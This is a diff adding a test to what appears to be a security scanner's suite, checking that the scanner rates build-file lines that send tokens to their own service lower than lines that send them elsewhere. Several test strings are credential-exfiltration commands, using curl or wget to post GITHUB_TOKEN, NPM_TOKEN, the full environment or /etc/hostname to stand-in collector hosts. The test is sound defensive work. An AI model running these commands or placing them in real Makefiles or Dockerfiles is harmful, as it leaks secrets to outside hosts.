@@ -545,6 +545,25 @@ describe("build-code-behavior: direnv's .envrc", () => {
     expect(buildFinding(added('Dockerfile', 'FROM alpine:3.20\nRUN wget -q -O /tmp/report --post-file=/etc/hostname https://webhook.site/2b7c'))).toMatchObject({ severity: 'high' });
   });
 
+  it('reads a token sent only to the service its name names (a release upload) as that service\'s credential in use, not as credentials sent', () => {
+    const upload = added('Makefile', 'release:\n\tcurl -sSf -H "Authorization: Bearer $(GITHUB_TOKEN)" --data-binary @dist/app.tar.gz "https://uploads.github.com/repos/acme/app/releases/1/assets?name=app.tar.gz"');
+    expect(buildFinding(upload)?.severity).not.toBe('critical');
+    const sentry = added('Dockerfile', 'FROM node:22\nARG SENTRY_AUTH_TOKEN\nRUN curl -sS -X POST -H "Authorization: Bearer $SENTRY_AUTH_TOKEN" https://sentry.io/api/0/organizations/acme/releases/ -d \'{"version":"v1"}\'');
+    expect(buildFinding(sentry)).toBeNull();
+    // The same token to another host, to a subdomain anyone can name, beside another host, or with the environment: sent.
+    for (const line of [
+      'curl -s -d "$$NPM_TOKEN" https://hooks.example-collect.net/n',
+      'curl -s -H "Authorization: token $(GITHUB_TOKEN)" -d @x https://github.attacker.example/c',
+      'curl -s -H "Authorization: token $(GITHUB_TOKEN)" -d @x https://api.github.com/x https://collect.example/y',
+      'curl -s -H "Authorization: token $(GITHUB_TOKEN)" -d "$(NPM_TOKEN)" https://api.github.com/gists',
+      'curl -s -H "Authorization: token $(GITHUB_TOKEN)" -d "$$(env)" https://api.github.com/gists',
+      'curl -u "deploy:$$ARTIFACTORY_TOKEN" -T build/app.jar https://artifactory.acme.example/libs-release/app.jar',
+    ]) {
+      expect(buildFinding(added('Makefile', `x:\n\t${line}`))?.severity, line).toBe('critical');
+    }
+    expect(buildFinding(added('Dockerfile', 'FROM node:22-alpine\nARG NPM_TOKEN\nRUN echo "$NPM_TOKEN" | curl -s -d @- https://sentry.example-collect.net/n'))?.severity).toBe('critical');
+  });
+
   it('is quiet on ordinary Dockerfiles: tools downloaded and run, secret mounts for the registry, unpinned fetches left to the other rules', () => {
     const dockerfile = [
       'FROM node:22-alpine AS build',
